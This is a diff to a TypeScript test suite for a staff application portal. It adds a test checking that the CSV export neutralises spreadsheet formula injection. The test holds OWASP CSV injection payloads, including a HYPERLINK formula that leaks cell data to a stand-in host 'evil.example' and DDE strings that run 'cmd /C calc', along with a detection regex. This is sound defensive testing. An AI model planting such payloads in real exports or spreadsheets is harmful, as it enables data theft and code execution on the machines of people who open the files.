@@ -18,6 +18,7 @@ import { buildMailedTestApp, type MailedTestApp } from '../../test/test-app';
 import { queryRows } from '../platform/database/open-database';
 import { auditEvents, documentAnswers, staffInvitations, staffSessions } from '../platform/database/schema';
 import { STAFF_ROUTES } from '@portico/contracts';
+import { APPLICATION, descriptionKey, indexDefinition } from '@portico/application';
 
 describe('staff accounts: invitation, password and authenticator, sign-in with a second factor', () => {
   let testApp: MailedTestApp;
@@ -368,12 +369,10 @@ describe('staff accounts: invitation, password and authenticator, sign-in with a
     expect(response.headers['content-disposition']).toMatch(
       /^attachment; filename="?applications-\d{4}-\d{2}-\d{2}\.csv"?$/,
     );
-    const [header, row, ...rest] = response.body.trim().split('\n');
+    const [headers, cells, ...rest] = parse(response.body) as string[][];
     expect(rest).toEqual([]);
-    const headers = header!.split(',');
-    const cells = row!.split(',');
-    const at = (label: string) => cells[headers.indexOf(label)];
-    expect(headers.slice(0, 5)).toEqual(['Reference', 'Status', 'Submitted', 'Last activity', 'E-mail']);
+    const at = (label: string) => cells![headers!.indexOf(label)];
+    expect(headers!.slice(0, 5)).toEqual(['Reference', 'Status', 'Submitted', 'Last activity', 'E-mail']);
     expect(at('E-mail')).toBe(applicant);
     expect(at('Legal Last Name')).toBe(stamp);
     expect(at('Legal Sex')).toBe('Female');
@@ -382,6 +381,60 @@ describe('staff accounts: invitation, password and authenticator, sign-in with a
     const recorded = await testApp.database.db.select().from(auditEvents);
     expect(recorded.map((event) => event.action)).toContain('applications.export');
     expect((await get('/staff-api/applications.csv', '')).statusCode).toBe(401);
+  });
+
+  it("writes every CSV cell that begins with = + - @ a tab or a carriage return as text (OWASP's CSV injection payloads), in every column", async () => {
+    const cookie = await signedInStaff(testApp, 'formula.reader@harborvalley.example.edu', 'reader');
+    // OWASP's CSV injection payloads, one for each character a spreadsheet reads as a formula.
+    const PAYLOADS = [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
+      "+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      '\t=1+1',
+      '\r=1+1',
+      '=1+1',
+      '@SUM(1+1)',
+      '-2+3',
+      '=cmd|calc@example.com',
+      '\uFF1D1+1',
+    ];
+    // The e-mail check lets an address that is a formula through: the sign-up is the real one.
+    const email = `=cmd|calc.${Date.now().toString(36)}@example.com`;
+    await signUpAndConfirm(testApp, email);
+    // Every column's answer a payload, written as stored (whatever a save would accept), the
+    // descriptions that radios and selects export included, and the reference too.
+    const keys = [...indexDefinition(APPLICATION).byPage.values()]
+      .flat()
+      .flatMap((question) => [question.key, descriptionKey(question.key)]);
+    const answers = Object.fromEntries(keys.map((key, at) => [key, PAYLOADS[at % PAYLOADS.length]]));
+    await queryRows(
+      testApp.database.db,
+      sql`insert into applications (applicant_id, answers, reference)
+          select id, ${JSON.stringify(answers)}::jsonb, ${'@SUM(1+1)'} from applicants where email = ${email}
+          on conflict (applicant_id) do update set answers = excluded.answers, reference = excluded.reference`,
+    );
+
+    const response = await get(`/staff-api/applications.csv?q=${encodeURIComponent(email)}`, cookie);
+    expect(response.statusCode).toBe(200);
+    const [headers, cells, ...rest] = parse(response.body) as string[][];
+    expect(rest).toEqual([]);
+    const FIXED_FIELDS = 5;
+    const FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
+    expect([...headers!, ...cells!].filter((cell) => FORMULA.test(cell))).toEqual([]);
+    // Each value is kept, after the quote that makes it text: the e-mail, the reference, and a
+    // payload in every question's column but the checkboxes' (Yes or nothing).
+    const carried = cells!
+      .slice(FIXED_FIELDS)
+      .filter((cell) => cell.startsWith("'") && PAYLOADS.includes(cell.slice(1)));
+    const checkboxes = [...indexDefinition(APPLICATION).byPage.values()]
+      .flat()
+      .filter((question) => question.kind === 'checkbox').length;
+    expect(cells![headers!.indexOf('E-mail')]).toBe(`'${email}`);
+    expect(cells![headers!.indexOf('Reference')]).toBe("'@SUM(1+1)");
+    expect(carried).toHaveLength(headers!.length - FIXED_FIELDS - checkboxes);
+    // Quoted, every one: a cell is never split at a comma into a new one that begins a formula.
+    expect(response.body.split('\n')[1]!.startsWith(`"'@SUM(1+1)","`)).toBe(true);
   });
 
   it('exports the same applications as JSON, streamed a row at a time: an object each, answers by question key', async () => {
